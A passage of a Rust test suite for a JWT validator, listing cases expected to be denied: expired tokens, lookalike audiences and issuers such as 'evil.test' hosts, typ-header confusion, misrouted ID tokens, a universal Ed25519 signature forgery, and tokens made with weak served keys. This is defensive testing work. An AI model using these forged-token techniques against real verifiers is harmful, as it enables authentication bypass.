                    &header("ES256", Some("ec-1"), ""),
                    &claims(&[("exp", ABSENT)]),
                ),
                MALFORMED,
            ),
            deny(
                "no exp, far nbf and iat only",
                rs_signed(f, "", &claims(&[("exp", ABSENT), ("nbf", "0")])),
                MALFORMED,
            ),
            deny(
                "exp spelled EXP",
                rs_signed(f, "", &claims(&[("exp", ABSENT), ("EXP", "4000000000")])),
                MALFORMED,
            ),
        ]
    }

    pub(super) fn expired(f: &Fixture) -> Vec<Case> {
        let now = Issuer::now();
        vec![
            deny(
                "exp an hour ago",
                rs_signed(
                    f,
                    "",
                    &claims(&[
                        ("exp", &(now - 3600).to_string()),
                        ("iat", &(now - 7200).to_string()),
                    ]),
                ),
                &["token_expired"],
            ),
            deny(
                "exp 0",
                rs_signed(f, "", &claims(&[("exp", "0"), ("iat", ABSENT)])),
                &["token_expired"],
            ),
            deny(
                "nbf an hour ahead",
                rs_signed(f, "", &claims(&[("nbf", &(now + 3600).to_string())])),
                &["token_not_yet_valid"],
            ),
        ]
    }

    pub(super) fn audiences(f: &Fixture) -> Vec<Case> {
        let mut out: Vec<Case> = [
            r#"[]"#,
            r#""""#,
            r#""Orders-Api""#,
            r#""ORDERS-API""#,
            r#""orders-api ""#,
            r#"" orders-api""#,
            r#""orders-api\u0000""#,
            r#""orders-api/""#,
            r#""https://orders-api""#,
            r#""orders-api,billing""#,
            r#"["orders-api "]"#,
            r#"["other","Orders-api"]"#,
            ABSENT,
        ]
        .iter()
        .map(|aud| {
            deny(
                format!("aud {aud}"),
                rs_signed(f, "", &claims(&[("aud", aud)])),
                AUDIENCE,
            )
        })
        .collect();
        out.extend(
            [
                r#"[123]"#,
                r#"[["orders-api"]]"#,
                r#"[{"aud":"orders-api"}]"#,
                r#"{"orders-api":true}"#,
                r#"["orders-api",null]"#,
                "123",
                "true",
                "null",
            ]
            .iter()
            .map(|aud| {
                deny(
                    format!("aud {aud}"),
                    rs_signed(f, "", &claims(&[("aud", aud)])),
                    MALFORMED,
                )
            }),
        );
        out
    }

    pub(super) fn issuers(f: &Fixture) -> Vec<Case> {
        let attacker = json!(format!("http://127.0.0.1:{}", f.attacker.port)).to_string();
        let near: Vec<String> = [
            r#""https://idp.example.com.evil.test""#,
            r#""https://idp.example.com@evil.test""#,
            r#""https://idp.example.co""#,
            r#""https://idp.example.com/""#,
            r#""https://idp.example.com ""#,
            r#""https://idp.example.com\u0000""#,
            r#""HTTPS://IDP.EXAMPLE.COM""#,
            r#""http://idp.example.com""#,
            r#""https://idp.example.com:443""#,
            r#""https://evil.test/https://idp.example.com""#,
            r#"["https://idp.example.com"]"#,
            r#"{"iss":"https://idp.example.com"}"#,
            r#""""#,
            "null",
            "1",
            ABSENT,
            r#""https://at.example.com""#,
        ]
        .map(str::to_owned)
        .into_iter()
        .chain([attacker])
        .collect();
        near.iter()
            .map(|iss| {
                deny(
                    format!("iss {iss}"),
                    rs_signed(f, "", &claims(&[("iss", iss)])),
                    ISSUER,
                )
            })
            .collect()
    }

    pub(super) fn typ_confusion(f: &Fixture) -> Vec<Case> {
        let at_claims = claims(&[("iss", &json!(AT_ISS).to_string())]);
        let with_typ =
            |extra: &str| signed(&f.at.key, &header("ES256", Some("at-1"), extra), &at_claims);
        // A typ mismatch is reported as token_malformed (TokenError::TypeMismatch).
        let mut out: Vec<Case> = [
            "",
            r#","typ":"JWT""#,
            r#","typ":"jwt""#,
            r#","typ":"application/jwt""#,
            r#","typ":"id_token+jwt""#,
            r#","typ":"logout+jwt""#,
            r#","typ":"at+jwt ""#,
            r#","typ":"at-jwt""#,
            r#","typ":"application/at+jwt+x""#,
            r#","typ":"""#,
            r#","typ":["at+jwt"]"#,
            r#","typ":null"#,
        ]
        .iter()
        .map(|extra| {
            deny(
                format!("access-token rule, header {extra:?}"),
                with_typ(extra),
                MALFORMED,
            )
            .to(Route::AccessTokens)
        })
        .collect();
        // The same genuine at+jwt token on the default rule: `corp` does not hold the
        // `at` provider's key (the signature is checked before the issuer).
        out.push(deny(
            "at+jwt token of the `at` provider sent to the corp rule",
            with_typ(r#","typ":"at+jwt""#),
            NO_KEY,
        ));
        out
    }

    pub(super) fn id_token(f: &Fixture) -> Vec<Case> {
        let now = Issuer::now();
        let id_claims = |aud: &str| {
            format!(
                r#"{{"iss":"{ISS}","sub":"alice","aud":{aud},"azp":"orders-web","nonce":"n-0S6_WzA2Mj","auth_time":{now},"iat":{now},"exp":{}}}"#,
                now + 3600
            )
        };
        vec![
            deny(
                "ID token, aud = the client id",
                signed(
                    &f.rs.key,
                    &header("RS256", Some("rs-1"), r#","typ":"JWT""#),
                    &id_claims(r#""orders-web""#),
                ),
                AUDIENCE,
            ),
            deny(
                "ID token, aud = [client id]",
                signed(
                    &f.ec.key,
                    &header("ES256", Some("ec-1"), ""),
                    &id_claims(r#"["orders-web"]"#),
                ),
                AUDIENCE,
            ),
            deny(
                "ID token sent to the at+jwt rule",
                signed(
                    &f.at.key,
                    &header("ES256", Some("at-1"), r#","typ":"JWT""#),
                    &id_claims(r#""orders-api""#).replace(ISS, AT_ISS),
                ),
                MALFORMED,
            )
            .to(Route::AccessTokens),
        ]
    }

    pub(super) fn small_order_ed25519(_: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let universal = [&ED25519_IDENTITY[..], &[0u8; 32]].concat(); // R = identity, S = 0
        vec![
            deny(
                "EdDSA, kid of the small-order key, signature R = identity, S = 0",
                with_sig(
                    &header("EdDSA", Some("weak-ed25519-identity"), ""),
                    &payload,
                    &universal,
                ),
                NO_KEY,
            ),
            // Without a kid, EdDSA must not be a provider algorithm at all once the key
            // is ignored (the other keys are RS256 and ES256).
            deny(
                "EdDSA, no kid, signature R = identity, S = 0",
                with_sig(&header("EdDSA", None, ""), &payload, &universal),
                ALGORITHM,
            ),
        ]
    }

    pub(super) fn weak_served_keys(f: &Fixture) -> Vec<Case> {
        let weak = &f.forged["weak"];
        let payload = claims(&[("sub", r#""admin""#)]);
        vec![
            deny(
                "RS256 signed by the served RSA-1024 key",
                weak["rsa1024"]["token"].as_str().unwrap().to_owned(),
                NO_KEY,
            ),
            deny(
                "RS256 'signed' for the served e = 1 key (signature = encoded digest)",
                weak["e1"]["token"].as_str().unwrap().to_owned(),
                NO_KEY,
            ),
            deny(
                "HS256 with the served 31-byte oct key",
                weak["hs_short"]["token"].as_str().unwrap().to_owned(),
                NO_KEY,
            ),
            deny(
                "ES256 for the served off-curve key",
                with_sig(
                    &header("ES256", Some("weak-offcurve"), ""),
                    &payload,
                    &[3; 64],
                ),
                NO_KEY,
            ),
        ]
    }
}
